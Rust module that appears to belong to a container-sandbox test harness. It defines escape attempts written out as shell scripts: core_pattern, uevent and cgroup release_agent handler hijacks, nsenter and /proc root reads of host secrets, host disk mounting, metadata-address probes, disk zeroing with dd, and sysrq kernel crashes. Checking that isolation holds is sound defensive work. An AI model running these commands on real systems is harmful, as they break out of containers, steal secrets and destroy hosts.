//! Known ways out of containers, as research and incidents have them, and what else a container of the host's kernel can reach.

use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::process::Command;

use serde_json::Value;

use super::stage::{Said, Stage};
use super::{Attempt, Program};
use crate::failure::{Explain, Outcome};
use crate::process;
use crate::shim::CALL_LIMIT;

const fn shell(name: &'static str, what: &'static str, script: &'static str) -> Attempt {
    Attempt::new(name, what, Program::Shell(script))
}

/// The attempts of this theme.
pub(crate) const ATTEMPTS: &[Attempt] = &[
    shell(
        "escape-core-pattern",
        "a program of the container's as the handler of core dumps, and a crash",
        "printf \"#!/bin/sh\\necho out >$OUTSIDE/core\\n\" >/core; chmod 755 /core; echo \"|$UPPER/core\" >/proc/sys/kernel/core_pattern; \
         sh -c 'ulimit -c unlimited; kill -SEGV $$'; sleep 0.1; echo end",
    )
    .breaks_runc()
    .smoke(),
    shell(
        "escape-uevent-helper",
        "a program of the container's as the handler of device events, and an event",
        "printf \"#!/bin/sh\\necho out >$OUTSIDE/uevent\\n\" >/uevent; chmod 755 /uevent; mount -o remount,rw /sys; \
         for f in /sys/kernel/uevent_helper /proc/sys/kernel/hotplug; do echo $UPPER/uevent >$f; done; echo change >/sys/class/mem/null/uevent; sleep 0.1; echo end",
    ),
    shell(
        "escape-release-agent",
        "a release agent of a version 1 control group, with and without a user namespace",
        "printf \"#!/bin/sh\\necho out >$OUTSIDE/agent\\n\" >/agent; chmod 755 /agent; \
         try='mkdir -p /tmp/cg; for c in rdma misc memory pids; do mount -t cgroup -o $c none /tmp/cg && break; done; \
         mkdir /tmp/cg/x && echo 1 >/tmp/cg/x/notify_on_release; echo $UPPER/agent >/tmp/cg/release_agent && sh -c \"echo 0 >/tmp/cg/x/cgroup.procs\"'; \
         sh -c \"$try\"; unshare -Urm sh -c \"$try\"; sleep 0.1; echo end",
    ),
    shell(
        "escape-control-groups",
        "the node's control groups: made, and others' frozen and limited",
        "mkdir -p /cg; mount -t cgroup2 none /cg; for r in /cg /sys/fs/cgroup; do mkdir $r/attack; echo 1 >$r/attack/cgroup.procs; done 2>/dev/null; \
         echo 0 >/cg/bulkhead-test/neighbour/pids.max; echo end",
    )
    .alone()
    .breaks_runc(),
    shell(
        "escape-host-processes",
        "the node's processes, without a PID namespace: their files, their memory, their end",
        "cat /proc/$NODE/root$OUTSIDE/secret; nsenter -t $NODE -m cat $OUTSIDE/secret; nsenter -t 1 -m -p cat $OUTSIDE/secret; kill -9 $VICTIM; \
         cat /proc/$NEIGHBOUR_PID/root/secret; echo end",
    )
    .with(without_pid_namespace)
    .breaks_runc()
    .smoke(),
    shell(
        "escape-first-process",
        "the node's files by way of the first process's root, working directory and descriptors",
        "for p in 1 self thread-self; do cat /proc/$p/root$OUTSIDE/secret /proc/$p/cwd/../../../..$OUTSIDE/secret; for f in /proc/$p/fd/*; do cat $f/../../../..$OUTSIDE/secret; done; \
         nsenter -t $p -m -p -n -i -u cat $OUTSIDE/secret; done 2>/dev/null; echo end",
    ),
    shell(
        "escape-leaked-descriptors",
        "a file of the node's by descriptors that a runtime left open (CVE-2024-21626)",
        "attack above $OUTSIDE/secret",
    ),
    Attempt::new(
        "escape-runtime-program",
        "the runtime's programs by /proc/PID/exe, while they work (CVE-2019-5736)",
        Program::Attack(&["overwrite"]),
    ),
    shell(
        "escape-host-disks",
        "the node's disks: read, and mounted",
        "mkdir -p /m; for d in /dev/loop0 /dev/loop1 /dev/loop2 /dev/vda /dev/sda; do mount -o ro $d /m && { cat /m/secret; umount /m; }; done 2>/dev/null; \
         for major in 7 8 253 254; do mknod /disk-$major b $major 0 && mount -t ext4 -o ro /disk-$major /m && { cat /m/secret; umount /m; }; done 2>/dev/null; echo end",
    )
    .with(|stage, _| {
        let disk = stage.disk()?;
        let secret = stage.secret();
        fs::write(disk.join("secret"), secret).explain(|| "write to the disk".into())
    })
    .breaks_runc(),
    shell(
        "escape-loop-devices",
        "a loop device bound to a file of the container's",
        "head -c 65536 /dev/zero >/disk; for i in 0 1 2 3; do [ -e /dev/loop$i ] || mknod /dev/loop$i b 7 $i; done; losetup -f /disk || losetup /dev/loop3 /disk; echo end",
    ),
    shell(
        "escape-settings",
        "settings of the node's kernel",
        "cd /proc/sys; mount -o remount,rw /proc/sys 2>/dev/null; for f in kernel/panic vm/swappiness kernel/core_uses_pid vm/overcommit_memory fs/protected_hardlinks; do \
         echo $(($(cat $f) + 1)) >$f || echo 0 >$f; done 2>/dev/null; mount -t proc none /mnt 2>/dev/null; echo end",
    )
    .breaks_runc()
    .smoke(),
    shell("escape-kernel-log", "reading the node's kernel log", "dmesg | tail -n 5; timeout 0.2 cat /dev/kmsg | tail -n 5")
        .with(|stage, _| {
            let secret = stage.secret();
            let mut log = fs::OpenOptions::new().write(true).open("/dev/kmsg").explain(|| "open /dev/kmsg".into())?;
            // A record without an end is not shown.
            writeln!(log, "{secret}").explain(|| "write to /dev/kmsg".into())
        })
        .breaks_runc(),
    shell(
        "escape-kernel-log-written",
        "writing to the node's kernel log",
        "[ -e /dev/kmsg ] || mknod /dev/kmsg c 1 11; echo '<2>BUG: attack' >/dev/kmsg; echo end",
    )
    .breaks_runc(),
    shell(
        "escape-host-network",
        "a service on the node's loopback address, without a network namespace",
        "echo hello | timeout -s KILL 1 nc 127.0.0.1 47001; echo end",
    )
    .with(|stage, spec| {
        without(spec, "network");
        serve(stage, "127.0.0.1:47001")
    })
    .judged(spoken_to)
    .breaks_runc(),
    shell(
        "escape-loopback",
        "a service on the node's loopback address, and by vsock",
        "for a in 127.0.0.1 127.0.0.2 ::1 10.0.2.2 172.17.0.1 0.0.0.0; do echo hello | nc -w 1 $a 47001; done; attack vsock-ports; echo end",
    )
    .with(|stage, _| serve(stage, "127.0.0.1:47001"))
    .judged(spoken_to),
    shell(
        "escape-metadata",
        "the cloud's metadata address, served on the node",
        "ip link set lo up; ip route add default dev lo; echo hello | nc -w 1 169.254.169.254 80; echo end",
    )
    .with(|stage, _| {
        let mut command = Command::new("ip");
        // There already from the attempt before.
        process::run(command.args(["addr", "add", "169.254.169.254/32", "dev", "lo"]), b"", CALL_LIMIT)?;
        serve(stage, "169.254.169.254:80")
    })
    .judged(spoken_to),
    shell(
        "escape-neighbour",
        "another pod's files and memory, and the templates",
        "cat $NEIGHBOUR/secret /proc/$NEIGHBOUR_PID/root/secret /proc/$NEIGHBOUR_PID/mem /run/bulkhead/*/* /run/containerd/*/* /var/lib/bulkhead/templates/*/* 2>/dev/null | head -c 10000; \
         kill -9 $NEIGHBOUR_PID; find / -xdev -name secret 2>/dev/null | xargs cat; echo end",
    ),
    shell(
        "escape-image",
        "writing to every disk, the guest's own image among them",
        "for d in /dev/vd* /dev/sd* /dev/loop*; do [ -b $d ] || continue; blockdev --setrw $d; dd if=/dev/zero of=$d bs=4k count=64 conv=fsync; done 2>&1 | tail -n 2; \
         mknod /disk b 254 0; dd if=/dev/zero of=/disk bs=4k count=64; mount -o remount,rw / 2>/dev/null; echo end",
    )
    .alone()
    .not_on_runc("it would write over the node's disks")
    .judged(|stage, _| {
        let image = stage.layout.share("guest.erofs");
        let mut start = [0; 1028];
        let mut file = fs::File::open(&image).explain(|| format!("open {}", image.display()))?;
        std::io::Read::read_exact(&mut file, &mut start).explain(|| format!("read {}", image.display()))?;
        // The superblock's magic number.
        let kept = start[1024..] == [0xe2, 0xe1, 0xf5, 0xe0];
        Ok((!kept).then(|| "the guest image was written to".to_owned()).into_iter().collect())
    }),
    shell(
        "escape-reboot",
        "stopping the machine: reboot and power off",
        "attack reboot; reboot -f; poweroff -f; halt -f; echo end",
    )
    .alone(),
    shell(
        "escape-crash",
        "crashing the kernel",
        "mount -o remount,rw /proc/sys; echo 1 >/proc/sys/kernel/sysrq; echo c >/proc/sysrq-trigger; echo b >/proc/sysrq-trigger; kill -9 -1; echo end",
    )
    .alone()
    .not_on_runc("it would crash the node"),
    Attempt::new("escape-kexec", "another kernel by kexec_load and kexec_file_load", Program::Attack(&["kexec"]))
        .alone()
        .not_on_runc("it would crash the node"),
    Attempt::new("escape-clock", "setting the clock", Program::Attack(&["clock"]))
        .not_on_runc("it would set the node's clock"),
];

fn without(spec: &mut Value, kind: &str) {
    if let Some(namespaces) = spec["linux"]["namespaces"].as_array_mut() {
        namespaces.retain(|namespace| namespace["type"] != kind);
    }
}

/// No PID namespace, and a process of the host's to be killed.
pub(super) fn without_pid_namespace(stage: &mut Stage, spec: &mut Value) -> Outcome {
    without(spec, "pid");
    let mut command = Command::new("sleep");
    stage.victim = Some(command.arg("1000").spawn().explain(|| "start a process to be killed".into())?);
    Ok(())
}

fn serve(stage: &mut Stage, address: &str) -> Outcome {
    let server = TcpListener::bind(address).explain(|| format!("listen on {address}"))?;
    server.set_nonblocking(true).explain(|| "listen without waiting".into())?;
    stage.server = Some(server);
    Ok(())
}

fn spoken_to(stage: &Stage, _: &Said) -> Outcome<Vec<String>> {
    let accepted = stage.server.as_ref().is_some_and(|server| server.accept().is_ok());
    Ok(accepted.then(|| "a service of the node was spoken to".to_owned()).into_iter().collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_namespace_is_left_out() {
        let mut spec = crate::bundle::spec("x", Value::Null);
        without(&mut spec, "pid");
        let text = spec["linux"]["namespaces"].to_string();
        assert!(!text.contains("\"pid\"") && text.contains("\"mount\""), "{text}");
    }
}
